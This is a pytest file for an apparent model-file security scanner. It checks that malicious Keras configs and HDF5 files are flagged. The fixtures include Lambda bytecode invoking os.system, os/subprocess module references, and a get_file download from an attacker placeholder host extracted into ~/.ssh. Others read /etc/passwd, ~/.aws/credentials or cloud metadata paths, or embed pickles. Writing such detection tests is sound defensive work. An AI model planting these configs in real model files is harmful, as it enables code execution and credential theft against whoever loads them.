"""Keras: config checks (Lambda bytecode, foreign modules, gadgets, paths) and HDF5 files."""

from __future__ import annotations

import base64
import contextlib
import copy
import io
import json
import marshal
import pickle
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import modeltrust
from _scanners.archive_factory import run
from helpers import kerasfx as kf
from helpers.corpora import copy_sample
from modeltrust._inventory.formats import Format
from modeltrust._report.model import Coverage
from modeltrust._scanners import _marshal
from modeltrust._scanners.interface import ScanContext
from modeltrust._scanners.keras import KerasScanner, check_keras_config
from modeltrust._source.interface import Artifact, ExpansionBudget, Limits
from modeltrust.findings import Finding, Severity

h5py = pytest.importorskip("h5py")
np = pytest.importorskip("numpy")
SCANNER = KerasScanner()


def check(config: object, where: str = "config.json") -> tuple[list[Finding], list[Artifact]]:
    children: list[Artifact] = []
    ctx = ScanContext(Limits(), ExpansionBudget(1 << 30), children.append)
    check_keras_config(config, Artifact.from_bytes("m.keras!config.json", b"", 1), ctx, where)
    return ctx.findings, children


def rules_of(findings: list[Finding]) -> dict[str, Severity]:
    out: dict[str, Severity] = {}
    for f in findings:
        out[f.rule_id] = max(out.get(f.rule_id, Severity.INFO), f.severity)
    return out


# --- configs ------------------------------------------------------------------------------


def test_benign_keras3_config_is_clean() -> None:
    findings, _ = check(kf.sequential(kf.dense("d1"), kf.dense("d2", units=1,
                                                               activation="sigmoid")))
    assert findings == []


def test_benign_keras2_config_is_clean() -> None:
    cfg = kf.sequential_k2({"class_name": "Dense", "config": {"name": "d", "units": 3,
                            "kernel_initializer": {"class_name": "GlorotUniform",
                                                   "config": {"seed": None}}}})
    assert check(cfg)[0] == []


def test_cve_2024_3660_keras3_lambda_bytecode() -> None:
    findings, _ = check(kf.sequential(kf.dense(), kf.lambda_k3(kf.marker_code_b64())))
    hits = [f for f in findings if f.rule_id == "MT-KRS-001"]
    assert len(hits) == 1 and hits[0].severity is Severity.CRITICAL
    ev = hits[0].evidence
    assert "__import__" in ev and "system" in ev and kf.MARKER_CMD in ev and "'os'" in ev
    assert "dangerous=['__import__', 'os', 'system']" in ev
    assert hits[0].location.detail == "config.json: .config.layers[2].config.function.config.code"


def test_cve_2025_9905_keras2_lambda_list_form() -> None:
    layer = kf.lambda_k2([kf.marker_code_b64(), None, None])
    findings, _ = check(kf.sequential_k2(layer))
    assert rules_of(findings) == {"MT-KRS-001": Severity.CRITICAL}


def test_benign_lambda_bytecode_is_still_critical_but_lists_no_danger() -> None:
    findings, _ = check(kf.sequential(kf.lambda_k3(kf.benign_code_b64())))
    assert [f.rule_id for f in findings] == ["MT-KRS-001"]
    assert "dangerous=[]" in findings[0].evidence


def test_lambda_raw_source_with_eval_is_critical() -> None:
    layer = kf.lambda_k2("lambda x: eval('1+1')", function_type="raw")
    findings, _ = check(kf.sequential_k2(layer))
    assert rules_of(findings) == {"MT-KRS-002": Severity.CRITICAL}
    assert "eval" in findings[0].evidence


def test_lambda_harmless_source_is_high() -> None:
    findings, _ = check(kf.sequential_k2(kf.lambda_k2("lambda x: x * 2", "raw")))
    assert rules_of(findings) == {"MT-KRS-002": Severity.HIGH}


def test_lambda_named_function() -> None:
    layer = kf.lambda_k2("my_fn", function_type="function", module="my_project.fns")
    got = rules_of(check(kf.sequential_k2(layer))[0])
    assert got == {"MT-KRS-003": Severity.MEDIUM, "MT-KRS-004": Severity.HIGH}


def test_lambda_named_os_function_is_critical() -> None:
    layer = kf.lambda_k2("system", function_type="function", module="os")
    assert rules_of(check(kf.sequential_k2(layer))[0])["MT-KRS-004"] is Severity.CRITICAL


def test_cve_2025_1550_nested_initializer_module() -> None:
    evil = {"module": "os", "class_name": "function", "config": "system",
            "registered_name": "system"}
    cfg = kf.sequential(kf.dense(kernel_initializer=evil))
    findings, _ = check(cfg)
    hit = [f for f in findings if f.rule_id == "MT-KRS-004"]
    assert len(hit) == 1 and hit[0].severity is Severity.CRITICAL
    assert "os.system" in hit[0].evidence
    assert hit[0].location.detail is not None
    assert ".kernel_initializer" in hit[0].location.detail


@pytest.mark.parametrize("module", ["builtins", "subprocess", "runpy", "importlib"])
def test_dangerous_stdlib_modules_anywhere(module: str) -> None:
    obj = {"module": module, "class_name": "function", "config": "exec"}
    cfg = kf.sequential(kf.dense())
    cfg["compile_config"]["loss"] = obj
    assert rules_of(check(cfg)[0]) == {"MT-KRS-004": Severity.CRITICAL}


def test_third_party_module_is_high() -> None:
    layer = {"module": "my_company.layers", "class_name": "Attention", "config": {},
             "registered_name": "my_company>Attention"}
    assert rules_of(check(kf.sequential(layer))[0]) == {"MT-KRS-004": Severity.HIGH}


@pytest.mark.parametrize("module", ["keras", "keras.layers", "keras_hub.src.models",
                                    "keras_nlp.layers", "tf_keras.layers",
                                    "tensorflow.keras.layers", "keras_cv.layers"])
def test_keras_namespaces_are_allowed(module: str) -> None:
    layer = {"module": module, "class_name": "Dense", "config": {"units": 1},
             "registered_name": None}
    assert check(kf.sequential(layer))[0] == []


def test_registered_custom_object_without_module_is_medium() -> None:
    layer = {"class_name": "MyLayer", "config": {}, "registered_name": "Custom>MyLayer"}
    assert rules_of(check(kf.sequential(layer))[0]) == {"MT-KRS-004": Severity.MEDIUM}


def test_cve_2025_8747_get_file_gadget() -> None:
    gadget = {"module": "keras.utils", "class_name": "function", "config": "get_file",
              "registered_name": None}
    cfg = kf.sequential(kf.dense(activation=gadget))
    got = rules_of(check(cfg)[0])
    assert got == {"MT-KRS-005": Severity.HIGH}


def test_cve_2025_12060_get_file_archive_download() -> None:
    layer = {"module": "keras.src.utils.file_utils", "class_name": "function",
             "config": "get_file", "registered_name": None}
    cfg = kf.sequential(layer)
    cfg["config"]["layers"][1]["args"] = {"origin": "https://attacker.invalid/x.tar.gz",
                                          "extract": True, "cache_dir": "/home/user/.ssh"}
    got = rules_of(check(cfg)[0])
    assert got == {"MT-KRS-005": Severity.HIGH, "MT-KRS-006": Severity.HIGH}


def test_cve_2025_9906_enable_unsafe_deserialization() -> None:
    gadget = {"module": "keras.config", "class_name": "function",
              "config": "enable_unsafe_deserialization", "registered_name": None}
    cfg = kf.sequential(kf.dense(activation=gadget), kf.lambda_k3(kf.marker_code_b64()))
    got = rules_of(check(cfg)[0])
    assert got == {"MT-KRS-005": Severity.CRITICAL, "MT-KRS-001": Severity.CRITICAL}


def test_cve_2025_49655_torch_module_wrapper_pickle() -> None:
    payload = pickle.dumps({"marker": "MODELTRUST-TEST-MARKER"}, protocol=4)
    blob = base64.b64encode(payload).decode() + "A" * 0
    layer = {"module": "keras.layers", "class_name": "TorchModuleWrapper",
             "config": {"name": "torch_module_wrapper", "module": blob * 1},
             "registered_name": "TorchModuleWrapper"}
    findings, children = check(kf.sequential(layer))
    got = rules_of(findings)
    assert got["MT-KRS-005"] is Severity.CRITICAL
    assert got["MT-KRS-009"] is Severity.HIGH
    assert len(children) == 1 and children[0]._data == payload
    assert children[0].path.startswith("m.keras!config.json!config.json@")


def test_cve_2026_1462_tfsmlayer() -> None:
    layer = {"module": "keras.layers", "class_name": "TFSMLayer",
             "config": {"filepath": "/srv/other_model", "call_endpoint": "serve"},
             "registered_name": None}
    got = rules_of(check(kf.sequential(layer))[0])
    assert got == {"MT-KRS-005": Severity.HIGH, "MT-KRS-006": Severity.HIGH}


@pytest.mark.parametrize("vocab", ["/etc/passwd", "../../secrets.txt", "~/.aws/credentials",
                                   "https://169.254.169.254/latest/meta-data",
                                   "gs://bucket/vocab.txt", "C:\\Windows\\win.ini"])
def test_cve_2025_12058_string_lookup_vocabulary_path(vocab: str) -> None:
    layer = {"module": "keras.layers", "class_name": "StringLookup",
             "config": {"name": "lookup", "vocabulary": vocab, "mask_token": None},
             "registered_name": None}
    findings, _ = check(kf.sequential(layer))
    assert rules_of(findings) == {"MT-KRS-006": Severity.HIGH}
    assert repr(vocab) in findings[0].evidence


def test_inline_vocabulary_and_relative_names_are_fine() -> None:
    layer = {"module": "keras.layers", "class_name": "StringLookup",
             "config": {"name": "lookup", "vocabulary": ["a", "b"], "filepath": "vocab.txt"},
             "registered_name": None}
    assert check(kf.sequential(layer))[0] == []


def test_url_outside_file_fields_is_medium() -> None:
    cfg = kf.sequential(kf.dense(name="d", note="see http://example.invalid/x"))
    assert check(cfg)[0] == []
    cfg = kf.sequential(kf.dense(name="d", note="http://example.invalid/x"))
    assert rules_of(check(cfg)[0]) == {"MT-KRS-006": Severity.MEDIUM}


def test_config_nested_as_json_string() -> None:
    inner = json.dumps(kf.sequential(kf.lambda_k3(kf.marker_code_b64())))
    findings, _ = check({"class_name": "Wrapper", "config": {"model": inner}})
    assert rules_of(findings) == {"MT-KRS-001": Severity.CRITICAL}
    assert "<json>" in (findings[0].location.detail or "")


def test_not_a_config_is_malformed() -> None:
    assert rules_of(check("just a string")[0]) == {"MT-KRS-007": Severity.MEDIUM}


def test_deep_nesting_stops_with_a_finding() -> None:
    cfg: Any = {"class_name": "Dense", "config": {}}
    for _ in range(500):
        cfg = {"class_name": "Wrapper", "config": {"layer": cfg}}
    findings, _ = check(cfg)
    assert rules_of(findings) == {"MT-KRS-008": Severity.MEDIUM}


def test_findings_are_deterministic() -> None:
    cfg = kf.sequential(kf.lambda_k3(kf.marker_code_b64()),
                        {"module": "os", "class_name": "function", "config": "system"})
    assert check(cfg)[0] == check(copy.deepcopy(cfg))[0]


# --- marshal reader -----------------------------------------------------------------------


def test_marshal_reader_nested_code_and_refs() -> None:
    def outer(x: int) -> object:
        import subprocess  # noqa: F401 - only compiled, never run

        return (lambda y: open("/etc/passwd").read() + str(y))(x)

    info = _marshal.read_code(marshal.dumps(outer.__code__))
    assert {"open", "read", "str"} <= info.names
    assert "/etc/passwd" in info.consts
    assert "open" in info.dangerous() and "subprocess" in info.dangerous()
    assert info.filenames == {__file__}


def test_marshal_reader_rejects_non_code() -> None:
    for data in (b"", b"N", marshal.dumps((1, 2, 3)), marshal.dumps("c" * 40)):
        with pytest.raises(_marshal.MarshalError):
            _marshal.read_code(data)


def test_marshal_truncated_code_is_a_critical_finding() -> None:
    raw = marshal.dumps(compile(kf.MARKER_SRC, "<lambda>", "eval"))[:40]
    findings, _ = check(kf.sequential(kf.lambda_k3(base64.b64encode(raw).decode())))
    assert rules_of(findings) == {"MT-KRS-001": Severity.CRITICAL}
    assert "cannot decode" in findings[0].evidence


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400))
def test_marshal_reader_arbitrary_bytes(data: bytes) -> None:
    with contextlib.suppress(_marshal.MarshalError):
        _marshal.read_code(b"\xe3" + data)


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_marshal_reader_mutated_code(data: st.DataObject) -> None:
    raw = bytearray(marshal.dumps(compile(kf.MARKER_SRC + " or [x for x in 'ab']", "<l>",
                                          "eval")))
    for _ in range(data.draw(st.integers(1, 8))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(1, len(raw)))
    with contextlib.suppress(_marshal.MarshalError):
        _marshal.read_code(bytes(raw[:cut]), max_objects=10_000)


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=30)
    | st.sampled_from(["os", "system", "/etc/passwd", "http://x.invalid", "Lambda",
                       "__lambda__", kf.benign_code_b64(), "get_file", "keras.layers"]),
    lambda children: st.lists(children, max_size=5) | st.dictionaries(
        st.sampled_from(["class_name", "module", "config", "registered_name", "function",
                         "vocabulary", "code", "name", "layers", "function_type"]),
        children, max_size=6),
    max_leaves=60,
)


@settings(max_examples=200, deadline=None)
@given(_JSON)
def test_check_keras_config_arbitrary_json(config: object) -> None:
    findings, _ = check(config)
    assert all(f.rule_id.startswith("MT-KRS-") for f in findings)


# --- HDF5 ---------------------------------------------------------------------------------


def scan_h5(data: bytes, name: str = "model.h5", limits: Limits | None = None) -> Any:
    return run(SCANNER, name, data, Format.HDF5, limits=limits)


def test_legacy_h5_benign() -> None:
    r = scan_h5(kf.legacy_h5_bytes(kf.sequential_k2({"class_name": "Dense",
                                                      "config": {"units": 8}})))
    assert r.findings == []
    assert r.result.format is Format.KERAS_H5 and r.result.coverage is Coverage.ANALYSED
    assert dict(r.result.properties) == {"backend": "tensorflow", "keras_version": "2.15.0"}


def test_legacy_h5_lambda_bytecode_end_to_end(tmp_path: Path) -> None:
    path = tmp_path / "model.h5"
    kf.write_legacy_h5(path, kf.sequential_k2(kf.lambda_k2(kf.marker_code_b64())))
    report = modeltrust.scan(path)
    hits = [f for f in report.findings if f.rule_id == "MT-KRS-001"]
    assert hits and hits[0].severity is Severity.CRITICAL
    assert hits[0].location.detail is not None
    assert hits[0].location.detail.startswith("attribute model_config: ")
    assert not Path("/tmp/modeltrust-test-marker-DO-NOT-CREATE").exists()


def test_training_config_is_checked() -> None:
    loss = {"module": "subprocess", "class_name": "function", "config": "check_output"}
    r = scan_h5(kf.legacy_h5_bytes(kf.sequential_k2(), training={"loss": loss}))
    assert [f.rule_id for f in r.findings] == ["MT-KRS-004"]
    assert r.findings[0].location.detail == "attribute training_config: .loss"


def test_model_config_not_json() -> None:
    r = scan_h5(kf.legacy_h5_bytes("{not json"))
    assert [f.rule_id for f in r.by_rule("MT-KRS-007")] == ["MT-KRS-007"]


def test_external_link() -> None:
    def extra(f: Any) -> None:
        f["leak"] = h5py.ExternalLink("/etc/passwd", "/data")

    r = scan_h5(kf.legacy_h5_bytes(kf.sequential_k2(), extra=extra))
    hit = r.by_rule("MT-H5-001")
    assert len(hit) == 1 and hit[0].severity is Severity.HIGH
    assert "/etc/passwd" in hit[0].evidence and hit[0].location.detail == "HDF5 link /leak"


def test_soft_links_dangling_and_through_external() -> None:
    def extra(f: Any) -> None:
        f["ext"] = h5py.ExternalLink("other.h5", "/")
        f["dangling"] = h5py.SoftLink("/no/such/thing")
        f["via"] = h5py.SoftLink("/ext/x")
        f["fine"] = h5py.SoftLink("/model_weights/dense")

    r = scan_h5(kf.legacy_h5_bytes(kf.sequential_k2(), extra=extra))
    assert [f.location.detail for f in r.by_rule("MT-H5-002")] == ["HDF5 link /dangling"]
    assert sorted(f.location.detail or "" for f in r.by_rule("MT-H5-001")) == [
        "HDF5 link /ext", "HDF5 link /via"]


def test_cve_2026_1669_external_storage_in_keras_weights(tmp_path: Path) -> None:
    def extra(f: Any) -> None:
        f["layers/dense/vars"].create_dataset("2", shape=(64,), dtype="u1",
                                              external=[("/etc/passwd", 0, 64)])

    weights = kf.weights_h5_bytes(extra)
    r = scan_h5(weights, "m.keras!model.weights.h5")
    hit = r.by_rule("MT-H5-003")
    assert len(hit) == 1 and hit[0].severity is Severity.HIGH
    assert "/etc/passwd" in hit[0].evidence
    assert r.result.format is Format.KERAS_H5
    path = tmp_path / "m.keras"
    path.write_bytes(kf.keras_zip(kf.sequential(kf.dense()), weights))
    report = modeltrust.scan(path)
    assert any(f.rule_id == "MT-H5-003" and f.path.endswith("m.keras!model.weights.h5")
               for f in report.findings)


def test_virtual_dataset_from_other_file(tmp_path: Path) -> None:
    def extra(f: Any) -> None:
        layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
        layout[:] = h5py.VirtualSource("/etc/other.h5", "data", shape=(4,))
        f.create_virtual_dataset("virtual", layout)

    r = scan_h5(kf.legacy_h5_bytes(kf.sequential_k2(), extra=extra))
    hit = r.by_rule("MT-H5-004")
    assert len(hit) == 1 and "/etc/other.h5:data" in hit[0].evidence


def test_pickle_in_attribute_is_handed_on() -> None:
    payload = pickle.dumps({"marker": "MODELTRUST-TEST-MARKER"}, protocol=4)

    def extra(f: Any) -> None:
        f["model_weights"].attrs["blob"] = np.void(payload)

    r = scan_h5(kf.legacy_h5_bytes(kf.sequential_k2(), extra=extra))
    assert [f.rule_id for f in r.findings] == ["MT-H5-006"]
    assert r.child_data("!@model_weights@blob[0]") == payload


def test_pickle_in_opaque_dataset() -> None:
    payload = pickle.dumps([1, 2, 3], protocol=2)

    def extra(f: Any) -> None:
        f.create_dataset("opaque", data=np.void(payload))

    r = scan_h5(kf.legacy_h5_bytes(kf.sequential_k2(), extra=extra))
    assert [f.rule_id for f in r.findings] == ["MT-H5-006"]
    assert r.children and r.children[0]._data == payload


def test_user_block_is_reported_and_scanned() -> None:
    buf = io.BytesIO()
    with h5py.File(buf, "w", userblock_size=512) as f:
        f.create_dataset("x", data=np.ones(3))
    data = bytearray(buf.getvalue())
    data[:11] = b"HIDDEN-DATA"
    r = scan_h5(bytes(data))
    assert [f.rule_id for f in r.findings] == ["MT-H5-005"]
    assert r.child_data("@userblock")[:11] == b"HIDDEN-DATA"


def test_plain_hdf5_is_not_keras() -> None:
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.create_dataset("x", data=np.arange(10))
        f["x"].attrs["unit"] = "m"
    r = scan_h5(buf.getvalue(), "data.h5")
    assert r.findings == [] and r.result.format is Format.HDF5


def test_hard_link_cycle_is_walked_once() -> None:
    def extra(f: Any) -> None:
        g = f.create_group("loop")
        g["self"] = g

    r = scan_h5(kf.legacy_h5_bytes(kf.sequential_k2(), extra=extra))
    assert r.findings == [] and r.result.coverage is Coverage.ANALYSED


def test_truncated_hdf5_is_malformed() -> None:
    data = kf.legacy_h5_bytes(kf.sequential_k2())
    r = scan_h5(data[:300])
    assert [f.rule_id for f in r.findings] == ["MT-H5-007"]
    assert r.result.coverage is Coverage.PARTIAL


def test_hdf5_library_hang_is_a_finding() -> None:
    """A corrupted vlen attribute that makes libhdf5 loop forever: the child is killed."""
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["model_config"] = '{"class_name":"Sequential","config":{"layers":[]}}'
        f.create_group("model_weights/dense").create_dataset("kernel", data=np.ones((3, 3)))
        f["l"] = h5py.SoftLink("/model_weights")
    data = bytearray(buf.getvalue())
    import random

    rnd = random.Random(1)
    for _ in range(15):
        mutated = bytearray(data)
        for _ in range(rnd.randint(1, 20)):
            mutated[rnd.randrange(len(mutated))] = rnd.randrange(256)
    r = scan_h5(bytes(mutated), limits=Limits(max_seconds=1))
    assert r.findings, "a corrupted file must produce a finding"


def test_h5py_missing(monkeypatch: pytest.MonkeyPatch) -> None:
    import importlib.util

    real = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec",
                        lambda name, *a: None if name == "h5py" else real(name, *a))
    r = scan_h5(kf.legacy_h5_bytes(kf.sequential_k2()))
    assert [(f.rule_id, f.severity) for f in r.findings] == [("MT-H5-009", Severity.INFO)]
    assert r.result.coverage is Coverage.NOT_ANALYSED
    assert "modeltrust[formats]" in r.result.reason


@settings(max_examples=25, deadline=None)
@given(st.data())
def test_mutated_hdf5_never_raises(data: st.DataObject) -> None:
    base = bytearray(kf.legacy_h5_bytes(kf.sequential_k2()))
    for _ in range(data.draw(st.integers(1, 10))):
        base[data.draw(st.integers(0, len(base) - 1))] = data.draw(st.integers(0, 255))
    r = scan_h5(bytes(base), limits=Limits(max_seconds=1))
    assert r.result.format in (Format.HDF5, Format.KERAS_H5)


# --- .keras archives end to end -----------------------------------------------------------


def test_keras_zip_config_reaches_check_keras_config(tmp_path: Path) -> None:
    from modeltrust._scanners.config import ConfigScanner

    probe = run(ConfigScanner(), "config.json", b"{}", Format.JSON)
    if probe.result.coverage is Coverage.NOT_ANALYSED:
        pytest.skip("config scanner not available yet")
    path = tmp_path / "evil.keras"
    path.write_bytes(kf.keras_zip(kf.sequential(kf.dense(), kf.lambda_k3(kf.marker_code_b64()))))
    report = modeltrust.scan(path)
    hits = [f for f in report.findings if f.rule_id == "MT-KRS-001"]
    assert hits and hits[0].path.endswith("evil.keras!config.json")


def test_benign_keras_zip_has_no_keras_findings(tmp_path: Path) -> None:
    path = tmp_path / "ok.keras"
    path.write_bytes(kf.keras_zip(kf.sequential(kf.dense())))
    report = modeltrust.scan(path)
    assert not [f for f in report.findings if f.rule_id.startswith(("MT-KRS", "MT-H5"))]
    formats = {e.path.rsplit("!", 1)[-1]: e.format for e in report.files}
    assert formats["model.weights.h5"] == "keras-h5"


# --- corpus -------------------------------------------------------------------------------


@pytest.mark.parametrize(("rel", "worst"), [("samples/keras/malicious_lambda.h5", "critical"),
                                            ("samples/keras/safe_model.h5", None)])
def test_modelaudit_keras_corpus(rel: str, worst: str | None, tmp_path: Path) -> None:
    sample = copy_sample("modelaudit", rel, tmp_path)
    report = modeltrust.scan(sample)
    got = report.max_severity
    assert (got.value if got else None) == worst, report.findings


def test_module_imports_nothing_dangerous() -> None:
    assert "keras" not in sys.modules and "tensorflow" not in sys.modules
